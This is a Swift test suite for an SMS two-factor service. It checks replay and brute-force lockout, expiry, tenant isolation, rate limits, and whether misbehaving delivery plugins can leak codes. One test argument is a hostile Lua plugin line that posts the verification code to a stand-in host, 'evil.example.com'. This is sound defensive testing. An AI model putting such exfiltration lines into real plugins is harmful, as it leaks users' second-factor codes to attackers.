// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Panelhost Authors

import Host
import Security
import Storage
import Testing
import Values

@Suite("TwoFactorService", .timeLimit(.minutes(10)))
struct TwoFactorServiceTests {
    private typealias Bench = FactorBench

    // MARK: Answers

    @Test("accepts a delivered code once, however it is typed")
    func once() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll("+49 151 123-45678")
            #expect(challenge.status == .sent)
            #expect(challenge.enrollmentStatus == .pending)
            #expect(challenge.hint == "…78")
            #expect(bench.messages.last?["to"] == "+4915112345678")

            let digits = try bench.lastCode
            #expect(try await bench.verify(challenge, " \(digits.prefix(4))-\(digits.suffix(4)) ") == "accepted")
            #expect(try await bench.factor(challenge.enrollment).status == .active)
            #expect(try await bench.verify(challenge, digits) == "rejected")
            #expect(try await bench.reasons().sorted() == ["over", "right"])
        }
    }

    @Test("accepts a code of a sign-in once, even when sixteen send it at the same time")
    func replay() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.begin(bench.active())
            let digits = try bench.lastCode

            let answers = try await withThrowingTaskGroup(of: String.self) { group in
                for _ in 0..<16 { group.addTask { try await bench.verify(challenge, digits) } }
                return try await group.reduce(into: []) { $0.append($1) }
            }

            #expect(answers.count { $0 == "accepted" } == 1)
            #expect(try await bench.stored(challenge).status == .accepted)
        }
    }

    @Test("counts wrong codes; after five even the right one is rejected")
    func locked() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            let digits = try bench.lastCode
            for attempt in 1...5 {
                #expect(try await bench.stored(challenge).status == .sent)
                #expect(try await bench.verify(challenge, bench.wrong(digits, by: attempt)) == "rejected")
                #expect(try await bench.stored(challenge).attempts == attempt)
            }

            #expect(try await bench.verify(challenge, digits) == "rejected")
            #expect(try await bench.stored(challenge).status == .locked)
            #expect(try await bench.factor(challenge.enrollment).status == .pending)
            #expect(try await bench.reasons().sorted() == ["locked", "over", "wrong", "wrong", "wrong", "wrong"])
        }
    }

    @Test("accepts the right code at the fifth attempt")
    func fifth() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            let digits = try bench.lastCode
            for attempt in 1...4 { _ = try await bench.verify(challenge, bench.wrong(digits, by: attempt)) }

            #expect(try await bench.verify(challenge, digits) == "accepted")
        }
    }

    @Test("gives sixty-four guesses at the same time no more than five looks")
    func guesses() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            let digits = try bench.lastCode

            let answers = try await withThrowingTaskGroup(of: String.self) { group in
                for guess in 1...64 { group.addTask { try await bench.verify(challenge, bench.wrong(digits, by: guess)) } }
                return try await group.reduce(into: []) { $0.append($1) }
            }

            #expect(answers == [String](repeating: "rejected", count: 64))
            #expect(try await bench.stored(challenge).attempts == 5)
            #expect(try await bench.stored(challenge).status == .locked)
            #expect(try await bench.reasons().count { $0 != "over" } == 5)
            #expect(try await bench.verify(challenge, digits) == "rejected")
        }
    }

    @Test("rejects the right code in another session, and counts it")
    func nonce() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            let digits = try bench.lastCode

            #expect(try await bench.verify(challenge, digits, nonce: "nonce-of-another-one") == "rejected")
            #expect(try await bench.stored(challenge).attempts == 1)
            #expect(try await bench.verify(challenge, digits) == "accepted")
        }
    }

    @Test("rejects a code that has run out", arguments: [(299, "accepted"), (300, "rejected")] as [(Int64, String)])
    func expiry(seconds: Int64, verdict: String) async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            let digits = try bench.lastCode

            bench.clock.advance(seconds: seconds)

            #expect(try await bench.verify(challenge, digits) == verdict)
            let expected: ChallengeRecord.Status = verdict == "accepted" ? .accepted : .expired
            #expect(try await bench.enroll().status == expected)
        }
    }

    @Test("answers every rejection with the same words")
    func sameWords() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            let challenge = try await bench.begin(factor)
            let digits = try bench.lastCode
            var answers: Set<Value> = [try await bench.answer(challenge, digits, nonce: "nonce-of-another-one")]
            for text in [bench.wrong(digits), "not a code", "", "1", bench.wrong(digits, by: 2), bench.wrong(digits, by: 3), digits] {
                answers.insert(try await bench.answer(challenge, text))
            }
            bench.clock.advance(seconds: 301)
            answers.insert(try await bench.answer(challenge, digits))

            #expect(answers == [["result": "rejected", "enrollment_id": .string(factor.description), "purpose": "login"]])
        }
    }

    @Test("knows no challenge and no factor of another tenant")
    func tenants() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            let challenge = try await bench.begin(factor)
            let digits = try bench.lastCode

            #expect(await code { try await bench.verify(challenge, digits, tenant: bench.rig.globex) } == "not_found")
            #expect(await code { try await bench.begin(factor, key: "x", tenant: bench.rig.globex) } == "not_found")
            #expect(try await bench.stored(challenge).attempts == 0)
            #expect(try await bench.verify(challenge, digits) == "accepted")
            // The same person is somebody else at another tenant, limits included.
            #expect(try await bench.active(tenant: bench.rig.globex) != factor)
        }
    }

    // MARK: Repeats

    @Test("finds the same challenge by the same key, and sends nothing again")
    func sameKey() async throws {
        try await Bench.with { bench in
            let enrolled = try await bench.enroll()
            #expect(try await bench.enroll() == enrolled)
            #expect(try await bench.verify(enrolled, bench.lastCode) == "accepted")
            bench.clock.advance(seconds: 31)

            let challenge = try await bench.begin(enrolled.enrollment)
            #expect(try await bench.begin(enrolled.enrollment) == challenge)
            bench.clock.advance(seconds: 31)
            #expect(try await bench.begin(enrolled.enrollment) == challenge)
            #expect(bench.messages.count == 2)

            #expect(try await bench.begin(enrolled.enrollment, key: "again").challenge != challenge.challenge)
            #expect(bench.messages.count == 3)
        }
    }

    @Test("makes one challenge of sixteen requests at the same time", arguments: [true, false])
    func parallel(enrolls: Bool) async throws {
        try await Bench.with { bench in
            let factor = enrolls ? nil : try await bench.active()
            let before = bench.messages.count

            let challenges = try await withThrowingTaskGroup(of: ChallengeView.self) { group in
                for _ in 0..<16 {
                    group.addTask {
                        if let factor { try await bench.begin(factor) } else { try await bench.enroll() }
                    }
                }
                return try await group.reduce(into: []) { $0.append($1) }
            }

            #expect(challenges.count == 16)
            #expect(Set(challenges.map(\.challenge)).count == 1)
            #expect(Set(challenges.map(\.enrollment)).count == 1)
            #expect(bench.messages.count == before + 1)
            #expect(try await bench.verify(challenges[0], bench.lastCode) == "accepted")
        }
    }

    // MARK: Limits

    /// Seconds to wait, or nil when it was sent.
    private func wait(_ body: () async throws -> ChallengeView) async throws -> Int? {
        do {
            _ = try await body()
            return nil
        } catch let error as HostError where error.code == .rateLimited {
            return error.retryAfterSeconds
        }
    }

    @Test("sends a user no flood, whatever the destination, and says when to come back")
    func floodOfUser() async throws {
        try await Bench.with { (bench: FactorBench) async throws in
            #expect(try await wait { try await bench.enroll("+4915100000001", key: "1") } == nil)
            #expect(try await wait { try await bench.enroll("+4915100000002", key: "2") } == 30)
            bench.clock.advance(seconds: 29)
            #expect(try await wait { try await bench.enroll("+4915100000002", key: "2") } == 1)
            bench.clock.advance(seconds: 1)
            #expect(try await wait { try await bench.enroll("+4915100000002", key: "2") } == nil)
            #expect(bench.messages.count == 2)
        }
    }

    @Test("sends a destination no flood, whoever asks, in whatever form")
    func floodOfDestination() async throws {
        try await Bench.with { (bench: FactorBench) async throws in
            for index in 0..<5 {
                #expect(try await wait { try await bench.enroll(user: "client-\(index)") } == nil)
                bench.clock.advance(seconds: 30)
            }

            #expect(try await wait { try await bench.enroll("+49 (151) 123 456 78", user: "client-6") } == 750)
            #expect(try await wait { try await bench.enroll("+4915187654321", user: "client-6") } == nil)
            #expect(bench.messages.count == 6)
        }
    }

    @Test("sends twenty codes a day to one user at most")
    func daily() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            for index in 1..<20 {
                bench.clock.advance(seconds: 300)
                #expect(try await wait { try await bench.begin(factor, key: "\(index)") } == nil)
            }
            bench.clock.advance(seconds: 300)

            let seconds = try #require(try await wait { try await bench.begin(factor, key: "20") })
            #expect(seconds == 86_400 - 31 - 20 * 300)
            bench.clock.advance(seconds: Int64(seconds))
            #expect(try await wait { try await bench.begin(factor, key: "20") } == nil)
        }
    }

    // MARK: Plugins that fail

    @Test(
        "stays closed when nothing left: even the right code opens nothing",
        arguments: [
            "error('boom')", "while true do end", "local t = {} while true do t[#t + 1] = ('x'):rep(100000) end", "return nil",
            "return 'accepted'",
            "return { ok = true, status = 'approved', channel = 'sms' }", "return { ok = true, status = 'rejected', channel = 'sms' }",
            "return { ok = true, result = 'accepted' }",
            "return { ok = false, error = { code = 'provider_error', message = 'no', retryable = false, outcome = 'rejected' } }",
            "ctx.http.post('https://evil.example.com/', { json = { code = req.code } })",
        ])
    func closed(deliver: String) async throws {
        try await Bench.with(Bench.plugin(deliver)) { bench in
            let challenge = try await bench.enroll()

            #expect(challenge.status == .failed)
            #expect(bench.messages.isEmpty)
            #expect(try await bench.verify(challenge, bench.sealedCode(challenge)) == "rejected")
            #expect(try await bench.factor(challenge.enrollment).status == .pending)
            #expect(await code { try await bench.begin(challenge.enrollment) } == "not_found")
        }
    }

    @Test(
        "takes a code for sent when nobody knows, and asks for it all the same",
        arguments: [
            "\(FactorBench.delivers) ", "/codes') error('boom')", "/codes') while true do end",
            "/close') return { ok = false, error = { code = 'timeout', message = 'x', outcome = 'not_sent' } }",
            "/codes') return nil",
        ])
    func unknown(deliver: String) async throws {
        let start = "local answer = ctx.http.post('https://api.example.com/v1"
        try await Bench.with(Bench.plugin(deliver.hasPrefix("/") ? start + deliver : deliver)) { bench in
            let challenge = try await bench.enroll()

            #expect(challenge.status == .sent)
            #expect(bench.peer.seen.count == 1)
            // Nothing goes out again by itself.
            #expect(try await bench.enroll() == challenge)
            #expect(bench.peer.seen.count == 1)
            let digits = try await bench.sealedCode(challenge)
            #expect(try await bench.verify(challenge, bench.wrong(digits)) == "rejected")
            #expect(try await bench.verify(challenge, digits) == "accepted")
        }
    }

    @Test(
        "shows neither plugin nor trail nor database a code or a destination",
        arguments: [
            FactorBench.delivers,
            "error('cannot send to ' .. req.destination .. ' the code ' .. tostring(req.code))",
            "local r = ctx.http.post('https://api.example.com/v1/echo', { json = { code = req.code, to = req.destination } }) error(r.body:sub(-200))",
            "return { ok = false, error = { code = 'provider_error', message = 'no way to ' .. req.destination, provider_message = req.destination, outcome = 'rejected' } }",
            "return { ok = true, status = req.destination, channel = req.destination }",
        ], ["+4915112345678", "4915112345679"])
    func leaks(deliver: String, number: String) async throws {
        // The hint would give all of it away.
        try await Bench.with(Bench.plugin(deliver, hint: "'call ' .. number")) { bench in
            let challenge = try await bench.enroll(number)
            let digits = try await bench.sealedCode(challenge)
            _ = try await bench.verify(challenge, digits)
            #expect(await code { try await bench.enroll("12 34", user: "other") } == "invalid_request")

            let everything = try await bench.everythingStored()
            #expect(everything.count > 50)
            for secret in [digits, number, String(number.suffix(10)), "12 34", FactorBench.nonce] {
                #expect(everything.filter { $0.contains(secret) } == [], "\(secret)")
            }
            #expect(challenge.hint == "…" + number.suffix(2))
        }
    }

    // MARK: What may be set up and asked

    @Test("does not bring an enrolment to life that ran out")
    func late() async throws {
        try await Bench.with { bench in
            let challenge = try await bench.enroll()
            try await bench.change(
                "UPDATE factor_enrollments SET expires_at = $3 WHERE tenant_id = $1 AND id = $2", .text(challenge.enrollment.description),
                .int(bench.clock.nowMs))

            #expect(try await bench.verify(challenge, bench.lastCode) == "rejected")
            #expect(try await bench.factor(challenge.enrollment).status == .pending)
            #expect(try await bench.reasons() == ["expired"])
        }
    }

    @Test("asks no factor that is not active", arguments: ["pending", "suspended", "revoked"])
    func inactive(status: String) async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            let challenge = try await bench.begin(factor)
            try await bench.change(
                "UPDATE factor_enrollments SET status = $3 WHERE tenant_id = $1 AND id = $2", .text(factor.description), .text(status))
            bench.clock.advance(seconds: 31)

            #expect(await code { try await bench.begin(factor, key: "other") } == "not_found")
            // Nor does it answer for what was asked before.
            #expect(try await bench.verify(challenge, bench.lastCode) == "rejected")
            #expect(bench.messages.count == 2)
        }
    }

    @Test("refuses a purpose that the plugin does not declare")
    func purpose() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()

            #expect(await code { try await bench.begin(factor, purpose: "admin") } == "unsupported")
            #expect(try await bench.begin(factor, purpose: "step_up").status == .sent)
            #expect(bench.messages.map { $0["purpose"] } == ["enroll", "step_up"])
        }
    }

    @Test("takes a code only for what it was asked for")
    func otherChallenge() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            let first = try await bench.begin(factor, key: "1")
            let digits = try bench.lastCode
            bench.clock.advance(seconds: 31)
            let second = try await bench.begin(factor, key: "2", purpose: "step_up")

            #expect(try await bench.verify(second, digits) == "rejected")
            #expect(try await bench.stored(first).attempts == 0)
            #expect(try await bench.answer(first, digits)["purpose"] == "login")
        }
    }

    @Test("refuses plugins that are no second factor, are disabled, or are not there")
    func plugins() async throws {
        try await Bench.with { bench in
            let factor = try await bench.active()
            try await bench.rig.enable(MessagePeer.notifier)
            #expect(await code { try await bench.enroll(plugin: "probe") } == "unsupported")
            #expect(await code { try await bench.enroll(plugin: "nobody") } == "plugin_not_enabled")
            _ = try await bench.rig.host.plugins.disable(bench.id, bench.rig.permit(.pluginEnable), Rig.trace)
            #expect(await code { try await bench.enroll(user: "other") } == "plugin_not_enabled")
            #expect(await code { try await bench.begin(factor) } == "plugin_not_enabled")
            #expect(bench.messages.count == 1)
        }
    }

    @Test("refuses a destination that the plugin does not take, and sends nothing")
    func destination() async throws {
        try await Bench.with { bench in
            #expect(await code { try await bench.enroll("12") } == "invalid_request")
            #expect(bench.messages.isEmpty)
        }
    }
}
